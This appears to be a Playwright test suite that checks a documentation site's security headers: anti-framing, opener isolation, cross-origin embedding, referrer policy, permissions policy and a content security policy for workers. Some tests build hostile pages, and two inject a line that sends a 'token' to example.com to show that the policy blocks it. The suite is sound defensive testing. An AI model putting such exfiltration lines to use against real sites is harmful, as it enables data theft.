/** The headers as browsers meet them: on every file that `npm start` serves, and what other sites cannot do because of them. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from '@playwright/test';
import { headersOf } from '../../src/bin/site-headers.ts';
import { testSite } from '../pseudo/site.ts';
import { serve } from './campaign-servers.ts';
import { ExportPanel } from './export-panel.ts';
import { expect, test } from './test.ts';

const built = path.join(testSite, 'dist');
const headers = Object.entries(headersOf(built));

test('every answer has every header: pages, scripts, the search index, redirects and what is not there', async ({ baseURL }) => {
  expect(headers.length).toBeGreaterThan(5);
  const script = /\/_astro\/[^"]+\.js/.exec(readFileSync(path.join(built, 'en/index.html'), 'utf8'))![0];
  for (const address of [
    '/',
    '/sign-in/',
    '/de/guide/apis/',
    script,
    '/pagefind/pagefind-worker.js',
    '/favicon.svg',
    '/de/guide/apis',
    '/en/nowhere/',
  ]) {
    const answer = await fetch(`${baseURL}${address}`, { redirect: 'manual' });
    for (const [name, value] of headers) expect(answer.headers.get(name), `${name} of ${address}`).toBe(value);
  }
});

/** A page of another site, whose script gets the address of ours. */
async function hostile(browser: Browser, script: string) {
  const site = await serve(
    async () => new Response(`<!doctype html><body><script>${script}</script>`, { headers: { 'Content-Type': 'text/html' } }),
  );
  const page = await browser.newPage();
  await page.goto(site.origin.replace('127.0.0.1', 'localhost'));
  return { page, close: async () => (site.close(), page.close()) };
}

test('another site can show no page of ours inside its own', async ({ browser, baseURL }) => {
  const { page, close } = await hostile(
    browser,
    `const frame = document.createElement('iframe'); frame.src = '${baseURL}/en/guide/export-chats/'; document.body.append(frame)`,
  );
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  await close();
});

test('another site that opens a page of ours has no hold on it', async ({ browser, baseURL }) => {
  const { page, close } = await hostile(browser, `onclick = () => { window.ours = open('${baseURL}/en/') }`);
  const [ours] = await Promise.all([page.waitForEvent('popup'), page.mouse.click(5, 5)]);
  await ours.waitForURL(/\/en\/$/);
  expect(await ours.evaluate(() => window.opener === null)).toBe(true);
  await expect.poll(() => page.evaluate(() => (window as unknown as { ours: Window }).ours.closed)).toBe(true);
  await close();
});

test('another site can take no file of ours into its own page', async ({ browser, baseURL }) => {
  const { page, close } = await hostile(
    browser,
    `const image = new Image(); image.onload = () => document.title = 'had'; image.onerror = () => document.title = 'refused'; image.src = '${baseURL}/favicon.svg'`,
  );
  await expect.poll(() => page.title()).toBe('refused');
  await close();
});

test('a link away from here does not say where the reader was', async ({ page }) => {
  const heard: (string | null)[] = [];
  const site = await serve(async (request) => (heard.push(request.headers.get('referer')), new Response('there')));
  await page.goto('/en/guide/apis/');
  await page.evaluate((href) => Object.assign(document.createElement('a'), { href }).click(), site.origin);
  await expect(page.getByText('there')).toBeVisible();
  expect(heard[0]).toBeNull();
  site.close();
});

test('a page is isolated, and may use nothing of the device but the clipboard', async ({ page }) => {
  await page.goto('/en/');
  const features = headers
    .find(([name]) => name === 'Permissions-Policy')![1]
    .split(', ')
    .map((one) => one.split('=')[0]!);
  const allowed = await page.evaluate(
    (all) => {
      const { featurePolicy } = document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } };
      return all.filter((name) => featurePolicy.allowsFeature(name));
    },
    [...features, 'clipboard-write'],
  );
  expect(allowed).toEqual(['clipboard-write']);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test('a worker is held to the policy as well, and a breach in its first line fails a test', async ({ page, complaints }) => {
  await page.route(/\/_astro\/export-[^/]*\.js$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `fetch('https://example.com/?token').catch(() => {});${await response.text()}` });
  });
  const panel = new ExportPanel(page);
  await panel.open();
  await panel.start();
  await expect.poll(() => complaints.join()).toContain('example.com');
  expect(complaints.splice(0).join()).toContain('connect-src');
});

test('so is a worker of a worker', async ({ page, complaints }) => {
  const panel = new ExportPanel(page);
  await panel.open();
  await panel.start();
  const demo = () => page.workers().find((worker) => worker.url().includes('/demo-'));
  await expect.poll(demo).toBeDefined();
  const outcome = await demo()!.evaluate(() =>
    fetch('https://example.com/?token').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(outcome).toBe('refused');
  await expect.poll(() => complaints.join()).toContain('example.com');
  expect(complaints.splice(0).join()).toContain('connect-src');
});
